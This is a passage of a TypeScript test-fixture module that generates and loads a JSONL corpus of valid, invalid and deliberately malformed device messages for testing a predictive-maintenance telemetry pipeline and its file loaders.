    add('maintenance', mnt(PUMP), maint(PUMP, { kind }), bad('invalid_envelope'));
  }
  add('maintenance', mnt(PUMP), JSON.stringify({ schema: 'pdm.maintenance.v1', assetId: PUMP.id, ts: '2026-01-14T00:00:00Z' }), bad('invalid_envelope'));
  add('maintenance', mnt(PUMP), maint(PUMP, { extra: 1 }), bad('invalid_envelope'));
  add('maintenance', mnt(PUMP), maint(PUMP, { samples: [] }), bad('invalid_envelope'));
  add('maintenance', mnt(PUMP7), maint(PUMP7, { kind: 'replacement', component: 'seal' }), ok());

  // --- more valid messages at the end: good data after the storm is still accepted
  add('valid', tel(PUMP), batch(PUMP, [sample(PUMP), sample(PUMP)]), ok());
  add('valid', tel(MACHINE), one(MACHINE), ok());
  add('valid', tel(PUMP7), batch(PUMP7, [sample(PUMP7), sample(PUMP7), sample(PUMP7)]), ok());

  // --- deliberately malformed file lines (for the loaders, not the pipeline)
  broken('this line is not JSON');
  broken('{"topic": "pdm/site-a/pump-001/telemetry"}');
  broken('{"payload": "{}"}');
  broken('["pdm/site-a/pump-001/telemetry", "{}"]');
  broken('{"topic": 5, "payload": "{}"}');

  // Spread the broken lines through the file so the loaders resume after each one.
  const brokenLines = lines.filter((l) => l.kind === 'broken');
  const cases = lines.filter((l) => l.kind === 'case');
  const out: CorpusLine[] = [];
  const every = Math.floor(cases.length / (brokenLines.length + 1));
  cases.forEach((c, i) => {
    out.push(c);
    const b = (i + 1) % every === 0 ? brokenLines[(i + 1) / every - 1] : undefined;
    if (b) out.push(b);
  });
  return out;
}

/** The corpus file text, one line per entry. */
export function corpusText(lines: readonly CorpusLine[] = buildCorpus()): string {
  return `${lines
    .map((l) => (l.kind === 'broken' ? l.text : JSON.stringify(l.value.payload !== undefined ? { topic: l.value.topic, payload: l.value.payload, id: l.value.id, category: l.value.category, expect: l.value.expect } : { topic: l.value.topic, payloadBase64: l.value.payloadBase64, id: l.value.id, category: l.value.category, expect: l.value.expect })))
    .join('\n')}\n`;
}

export const CORPUS_FILE = join(import.meta.dirname, 'corpus.jsonl');

/** One loaded message: what the device sent, plus the expectation (file line numbers are 1-based). */
export interface LoadedCase {
  readonly line: number;
  readonly id: string;
  readonly category: string;
  readonly topic: string;
  readonly payload: string | Uint8Array;
  readonly expect: Expect;
}

export interface LoadedCorpus {
  readonly cases: LoadedCase[];
  /** Lines that are not a corpus entry, with what is wrong. */
  readonly fileErrors: { line: number; error: string }[];
}

/** Reads corpus text: `payload` (text as sent) or `payloadBase64` (bytes as sent). Blank lines are skipped. */
export function loadCorpus(text: string): LoadedCorpus {
  const cases: LoadedCase[] = [];
  const fileErrors: { line: number; error: string }[] = [];
  const rows = text.split('\n');
  rows.forEach((row, i) => {
    if (row.trim() === '') return;
    const line = i + 1;
    let value: unknown;
    try {
      value = JSON.parse(row);
    } catch {
      fileErrors.push({ line, error: 'not JSON' });
      return;
    }
    if (typeof value !== 'object' || value === null || Array.isArray(value)) {
      fileErrors.push({ line, error: 'not a JSON object' });
      return;
    }
    const v = value as Record<string, unknown>;
    if (typeof v.topic !== 'string') {
      fileErrors.push({ line, error: 'missing "topic" string' });
      return;
    }
    const payload =
      typeof v.payload === 'string'
        ? v.payload
        : typeof v.payloadBase64 === 'string'
          ? new Uint8Array(Buffer.from(v.payloadBase64, 'base64'))
          : undefined;
    if (payload === undefined) {
      fileErrors.push({ line, error: 'missing "payload" or "payloadBase64" string' });
      return;
    }
    const expect = v.expect as Expect;
    cases.push({ line, id: String(v.id), category: String(v.category), topic: v.topic, payload, expect });
  });
  return { cases, fileErrors };
}

if (process.argv[1] !== undefined && import.meta.url === pathToFileURL(process.argv[1]).href) {
  writeFileSync(CORPUS_FILE, corpusText());
}
